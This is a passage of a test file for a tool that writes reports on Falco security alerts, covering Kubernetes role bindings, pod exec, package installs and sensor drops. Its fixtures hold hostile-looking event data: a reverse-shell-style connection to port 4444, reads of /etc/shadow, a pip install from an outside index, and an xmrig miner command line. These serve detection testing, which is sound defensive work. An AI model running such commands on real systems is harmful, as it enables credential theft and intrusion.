      expect(others.map(label)).toEqual(others.map(() => 'suspicious'))
    })

    const role = { 'ka.user.name': 'bo', 'ka.req.binding.role': 'admin', 'ka.response.code': 201 }
    const all = [{ kind: 'Group', name: 'system:unauthenticated' }]

    test.each<[string, Readonly<Record<string, FieldValue>>]>([
      ['objects', { 'ka.req.binding.subjects': all }],
      ['texts, as the plugin writes them', { 'ka.req.binding.subjects': ['{"kind":"User","name":"system:anonymous"}'] }],
      ['names of groups', { 'ka.req.binding.subjects.group_names': ['ops', 'system:unauthenticated'] }],
    ])('a role that is bound for all is suspicious and exposed, with the subjects as %s', (_, subjects) => {
      const report = told('K8s ClusterRoleBinding Created', { ...role, ...subjects })
      expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
      expect(textOf(report, 'Verdict')).toMatch(
        /The binding gives the role admin to system:\w+: to whoever reaches the API server, without/,
      )
      expect(textOf(report, 'Assessment')).toMatch(/Exposure \(answered 201\): whoever reaches the API server has the role admin without/)
    })

    test('what all may see anyway, a service account of that name, and a binding that was refused open nothing', () => {
      const bound = (more: Readonly<Record<string, FieldValue>>) =>
        told('K8s ClusterRoleBinding Created', { ...role, 'ka.req.binding.subjects': all, ...more })
      const namesake = [{ kind: 'ServiceAccount', name: 'system:anonymous' }]
      const usual = [{ 'ka.req.binding.role': 'system:public-info-viewer' }, { 'ka.req.binding.subjects': namesake }]
      expect(usual.map((more) => bound(more).verdict.label)).toEqual(['not settled', 'not settled'])
      const refused = bound({ 'ka.response.code': 403 })
      expect(refused.verdict.label).toBe('failed attempt')
      expect(textOf(refused)).not.toContain('Exposure')
    })
  })

  test('that no flaw is shown never reads like an all-clear above what is grave', () => {
    const shell = { 'evt.type': 'dup2', 'proc.name': 'bash', 'fd.name': '10.0.0.4:50000->198.51.100.9:4444' }
    expect(observe({ fields: shell })).toContain('What was done or tried may be grave by itself, as the signs below say.')
    expect(observe({ fields: shell })).not.toContain('No vulnerability')
  })

  test('an exec into a pod by a service account is suspicious, by a person not settled', () => {
    const into = (user: string) =>
      reportOn(
        bareEvent(
          { rule: 'Attach/Exec Pod', source: 'k8s_audit', tags: [] },
          { 'ka.user.name': user, 'ka.target.subresource': 'exec', 'ka.target.resource': 'pods' },
        ),
      ).verdict.label
    expect([into('system:serviceaccount:argocd:argocd-application-controller'), into('ana')]).toEqual(['suspicious', 'not settled'])
  })

  test('sshd with a library named like the backdoored xz is exposed and suspicious until its version is known', () => {
    const fields = { 'evt.type': 'openat', 'proc.name': 'sshd', 'fd.name': '/usr/lib/liblzma.so.5.6.1', 'container.id': 'host' }
    const rule = 'Backdoored library loaded into SSHD (CVE-2024-3094)'
    expect(reported({ rule, fields }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
    expect(observe({ rule, fields })).toContain('a library file named like the backdoored releases 5.6.0 and 5.6.1 of xz')
    expect(observe({ rule, fields })).not.toContain('No vulnerability')
    expect(textOf(reported({ rule, fields }), 'Mitigation')).toContain('Ask whoever owns the host')
    expect(textOf(reported({ rule, fields }), 'Conclusion')).toContain('ask whoever owns the host')
  })

  test('a request to the Kubernetes API is told by what it asked for', () => {
    const told = (fields: Readonly<Record<string, string>>) =>
      textOf(reportOn(bareEvent({ rule: 'Our own rule', source: 'k8s_audit', tags: [] }, { 'ka.user.name': 'ana', ...fields })), 'Summary')
    const pod = { 'ka.target.resource': 'pods', 'ka.target.name': 'web' }
    const inside = { 'ka.verb': 'create', 'ka.target.subresource': 'exec', 'ka.uri.param[command]': 'cat /etc/shadow' }
    expect(told({ ...pod, ...inside })).toContain('a request (create, exec) about pods web, to run cat.')
    expect(told({ ...pod, 'ka.target.subresource': 'portforward' })).toContain('a request (portforward) about pods web.')
    expect(told({ 'ka.req.binding.role': 'edit', 'ka.req.binding.subjects': 'bo' })).toContain('binding the role edit, for the subjects bo')
    expect(told({ ...pod, 'ka.req.pod.containers.image': 'shop:1' })).toContain('about pods web, for containers of shop:1.')
  })

  test('what was not there was not turned down', () => {
    const answered = (code: string) =>
      textOf(reportOn({ ...secretRead, fields: new Map([...secretRead.fields, ['ka.response.code', code]]) }))
    expect(answered('404')).toContain('What was asked for was not there (404)')
    expect(answered('404')).not.toContain('turned down')
    expect(answered('409')).toContain('The request failed (409)')
    expect(answered('403')).toContain('The request was turned down (403)')
  })

  test('a program is not said to have been started because its binary bears its name: after a failure both are the caller', () => {
    const fields = { 'proc.name': 'xmrig', 'proc.exepath': '/usr/local/bin/xmrig', 'proc.cmdline': 'xmrig -o x' }
    expect(textOf(reported({ fields }), 'Summary')).toContain(
      'xmrig was seen at an execve (its result is not given) with the command line xmrig -o x',
    )
    expect(textOf(reported({ fields }))).not.toMatch(/was started, as|leaves the caller/)
  })

  test('a rule that fired is not said to be unable to', () => {
    const rule = { rule: 'GCP Bucket configured to be public', source: 'gcp_auditlog', tags: [] }
    expect(textOf(reportOn(bareEvent(rule, { 'gcp.user': 'ana' })))).not.toContain('cannot fire')
  })

  test('a rule of our own tagged with exfiltration is about that', () => {
    expect(textOf(reported({ rule: 'Our own rule', tags: ['mitre_exfiltration'] }), 'Falco rule')).toContain('it is about exfiltration;')
  })

  test('a script in the shared memory of a container probably failed, by the default of runtimes', () => {
    expect(textOf(reportOn(selfTest), 'Assessment')).toContain(
      "Docker and containerd mount a container's /dev/shm noexec by default: unless that was changed here, the script itself probably failed.",
    )
    const onHost = new Map([...selfTest.fields, ['container.id', 'host']])
    expect(textOf(reportOn({ ...selfTest, fields: onHost }))).not.toContain('noexec by default: unless')
  })

  test('a rule that hardly ever fires by mistake is suspicious by itself, with less confidence', () => {
    const report = reportOn(bareEvent({ rule: 'CloudTrail Logging Disabled', source: 'aws_cloudtrail', tags: [] }, { 'ct.user': 'ana' }))
    expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'low' })
  })

  test('a program run from shared memory shows that it is not noexec there; a shell given a script does not', () => {
    const run = (exepath: string) =>
      observe({ fields: { 'evt.res': 'SUCCESS', 'proc.exepath': exepath, 'proc.cmdline': 'sh -c /dev/shm/x', 'proc.name': 'sh' } })
    expect(run('/dev/shm/x')).toContain('this shared memory is not mounted noexec')
    expect(run('/bin/busybox')).toContain('No vulnerability and no misconfiguration is shown')
  })

  const packages = 'Launch Package Management Process in Container'
  const apk = { 'proc.name': 'apk', 'proc.cmdline': 'apk add curl', 'proc.pname': 'sh', 'proc.aname[2]': 'buildkitd' }

  test('a package manager beneath a tool that builds images fits a build, which nobody has confirmed', () => {
    const report = reported({ rule: packages, fields: apk })
    expect(report.verdict).toMatchObject({ label: 'fits an image build', confidence: 'low' })
    expect(textOf(report, 'Conclusion')).toContain('whether an image was built')
    expect(textOf(report)).not.toContain('what was explained before')
  })

  test.each([
    ['a peer outside', packages, { 'proc.cmdline': 'pip install --index-url http://203.0.113.9/simple evil' }],
    ['an index that somebody names', packages, { 'proc.cmdline': 'pip install --index-url http://packages.example/simple x' }],
    ['a web server above', packages, { 'proc.aname[3]': 'nginx' }],
    ['a binary elsewhere', packages, { 'proc.exepath': '/tmp/apk' }],
    ['a rule about other things', 'Drop and execute new binary in container', {}],
    ['credentials', 'Read sensitive file untrusted', { 'evt.type': 'openat', 'fd.name': '/etc/shadow' }],
    ['credentials under its own rule', packages, { 'proc.cmdline': 'apk add --root /root/.ssh x' }],
    ['what outlasts it', 'Write below etc', { 'evt.type': 'openat', 'fd.name': '/etc/cron.d/x' }],
    ['a connection', 'Unexpected outbound connection destination', { 'evt.type': 'connect', 'fd.name': '10.1.1.1:3->203.0.113.9:4444' }],
  ])('%s is not explained by the names of a build', (_what, rule, fields) => {
    expect(reported({ rule, fields: { ...apk, ...fields } }).verdict.label).toBe('not settled')
  })

  test('an execve without a result is not said to have run', () => {
    expect(textOf(reported({}), 'Summary')).toContain('bash was seen at an execve (its result is not given)')
    expect(textOf(reported({ fields: { 'evt.res': 'SUCCESS' } }), 'Summary')).toContain('bash was executed')
    expect(textOf(reported({ fields: { 'evt.res': 'EACCES' } }), 'Summary')).toContain('bash called execve (its own command line is')
  })

  test('lost events are a blind spot and no threat', () => {
    const fields = { n_drops: '28901', n_evts: '173406' }
    const report = reportOn(bareEvent({ rule: 'Falco internal: syscall event drop', source: 'internal', tags: [] }, fields))
    expect(report.verdict.label).toBe('sensor health')
    expect(textOf(report, 'Summary')).toContain('Falco lost 28901 of 173406 events')
    expect(textOf(report, 'Mitigation')).toContain('n_drops_buffer_total is the buffer between kernel and Falco being full')
  })
})

describe('a report says where it knows nothing', () => {
  const custom = bareEvent({ rule: 'Our own rule', tags: [], output: 'something happened' }, {})
  const report = reportOn(custom)

  test('a rule that is not official', () => {
    expect(textOf(report, 'Falco rule')).toBe(
      'This rule is not in the catalogue of official rules: its meaning is known to whoever wrote it.',
    )
    expect(textOf(report, 'Assessment')).toContain('What would confirm or refute it is not known here')
    expect(report.title).toBe('Report on alert k3m9x2p7')
  })

  test('an event without tags for ATT&CK', () => {
    expect(textOf(report, 'ATT&CK')).toMatch(/^Not mapped upstream: the rule's tags name no tactic/)
  })

  test('an event without fields, which leaves the text of its rule', () => {
    expect(textOf(report, 'Summary')).toContain('The event has no output fields')
    expect(textOf(report, 'Summary')).toContain("The rule's text, as Falco filled it in, says: something happened")
    expect(problemsIn(report)).toEqual([])
  })

  test('an event whose text is no longer kept, of which only the alert tells', () => {
    const shell = anEvent()
    const forgotten = { ...shell, raw: '', output: undefined, tags: [], fields: new Map() }
    const report = reportOn(forgotten, { alert: alertOf(shell) })
    expect(textOf(report, 'Summary')).toContain("The event's text is no longer kept (retain in falconer.yml), so little can be said of it")
    expect(textOf(report, 'Verdict')).toContain("low either way, because the event's text is no longer kept.")
    expect(textOf(report, 'ATT&CK')).toContain("This is by the rule's tags")
    expect(textOf(report)).not.toMatch(/no output fields|carries none|the fields looked at/)
    expect(problemsIn(report)).toEqual([])
  })

  test('the newest event of an alert, where what opened it is forgotten', () => {
    const [opening, newest] = [anEvent(), anEvent({ hostname: 'node-8' })]
    const events = [
      { event: newest, receivedAt: morning, verdict: 'fold' as const },
      { event: { ...opening, raw: '' }, receivedAt: morning, verdict: 'open' as const },
    ]
    const report = reportOn(newest, { alert: { ...alertOf(opening), count: 2 }, events })
    expect(textOf(report, 'Event details')).toContain('These are the details of the newest event of the alert, one of 2.')
    expect(problemsIn(report)).toEqual([])
  })

  test('a source that no step fits', () => {
    const foreign = bareEvent({ source: 'nomad', rule: 'Our own job rule', tags: [] }, { user: 'ana' })
    expect(textOf(reportOn(foreign), 'Mitigation')).toContain('No steps of ours fit events of this source')
    expect(problemsIn(reportOn(foreign))).toEqual([])
  })

  test('a rule of our own, whose tags say what it is about', () => {
    const own = reportOn(anEvent({ rule: 'Our own rule', tags: ['mitre_credential_access'] }))
    expect(textOf(own, 'Falco rule')).toContain('Going by its tags it is about credential access')
    expect(problemsIn(own)).toEqual([])
  })

  test("the sensor's local time, which the rule's text begins with", () => {
    const output = '10:29:59.812345678: Notice A shell was spawned'
    const text = textOf(reportOn(bareEvent({ rule: 'Our own rule', tags: [], output }, {})))
    expect(text).toContain('says: A shell was spawned')
    expect(text).not.toContain('10:29:59')
  })

  test('an alert without company', () => {
    expect(textOf(reportOn(selfTest), 'Related activity')).toBe(
      'No other alert of the same container, pod, workload, actor, process or user was found in the ledger between 2026-11-24T08:30:00Z and 2026-11-24T09:30:00Z.',
    )
  })

  test('fields that the rule prints and the event lacks', () => {
    expect(textOf(reportOn(selfTest), 'Event details')).toContain(
      'the event has no value for them: fd.name, user.loginname, group.gid, group.name',
    )
  })
})

describe('a report shows', () => {
  test('what people did so far, with their words apart from ours', () => {
    const facts = [
      { kind: 'acknowledged', at: morning, by: 'U1' },
      { kind: 'resolved', at: morning, by: 'U1', outcome: 'benign', note: 'planned work' },
    ] as const
    const report = reportOn(anEvent(), { facts })
    expect(textOf(report, 'Related activity')).toContain('U1 resolved it as benign, 2026-11-24T09:30:00Z, saying planned work.')
    expect(problemsIn(report)).toEqual([])
  })

  test('secrets masked', () => {
    const report = reportOn(anEvent({ fields: { 'proc.cmdline': 'mysql --password=hunter2hunter2 shop' } }))
    expect(JSON.stringify(report)).not.toContain('hunter2')
    expect(textOf(report)).toContain('[masked]')
  })

  test("where the official rule's own text misleads", () => {
    const rule = 'Admin permission has been assigned to a user in OKTA'
    const report = reportOn(bareEvent({ rule, source: 'okta', tags: [] }, { 'okta.actor.name': 'ana' }))
    expect(textOf(report, 'Falco rule')).toContain('To be read with care: The output text says')
  })

  test('where the official rule has to be changed before it can fire', () => {
    const report = reportOn(bareEvent({ rule: 'Create Disallowed Pod', source: 'k8s_audit', tags: [] }, { 'ka.user.name': 'ana' }))
    expect(textOf(report, 'Falco rule')).toContain('cannot fire, because the macro allowed_k8s_containers allows every pod')
  })

  test('that tags disagree with ATT&CK', () => {
    const report = reportOn(anEvent({ rule: 'Contact K8S API Server From Container', tags: ['T1565', 'mitre_discovery'] }))
    expect(textOf(report, 'ATT&CK')).toContain('The tags disagree with ATT&CK: they put T1565 with Discovery')
  })

  test("the catalogue's tags where Falco sends none", () => {
    const report = reportOn(anEvent({ tags: [] }))
    expect(textOf(report, 'ATT&CK')).toContain("the catalogue's tags for this rule, because the event carries none")
  })

  test('a value of any length as a part of bearable length', () => {
    const report = reportOn(anEvent({ fields: { 'proc.cmdline': `run ${'x'.repeat(100_000)}` } }))
    expect(JSON.stringify(report).length).toBeLessThan(60_000)
    expect(problemsIn(report)).toEqual([])
  })

  test('the same material twice as the same report', () => {
    expect(reportOn(selfTest)).toEqual(reportOn(materialOf(selfTest).sample))
  })
})

test("the sensor's local time is not shown among the fields either", () => {
  const report = reportOn(
    anEvent({ fields: { 'evt.datetime': '2026-11-24 10:29:59.812345678', 'evt.time': 1783277459111213264n.toString() } }),
  )
  expect(textOf(report)).not.toContain('10:29:59')
})
